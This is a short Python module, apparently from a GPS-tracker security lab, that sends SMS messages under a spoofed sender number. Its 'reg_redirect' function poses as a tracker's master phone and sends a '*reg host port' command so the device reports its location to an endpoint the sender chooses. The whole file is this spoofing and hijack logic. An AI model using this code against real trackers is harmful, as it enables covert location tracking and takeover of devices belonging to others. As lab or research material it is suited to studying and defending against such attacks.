"""SMS with a caller id of our choosing."""

import logging

from gpslab.schemas.core import Endpoint, SmsMessage
from gpslab.sms.bus import Delivery, SmsTransport

logger = logging.getLogger(__name__)


def inject_sms(bus: SmsTransport, spoofed_from: str, to: str, body: str) -> Delivery:
    msg = SmsMessage(sender=spoofed_from, to=to, body=body)
    result = bus.send(msg)
    logger.info(
        "SMS injected",
        extra={"sms.from": spoofed_from, "sms.to": to, "sms.delivery": result.value},
    )
    return result


def reg_redirect(
    bus: SmsTransport, master_phone: str, tracker_phone: str, target: Endpoint
) -> Delivery:
    """Point a tracker at `target` by claiming to be its master."""
    return inject_sms(bus, master_phone, tracker_phone, f"*reg {target.host} {target.port}")
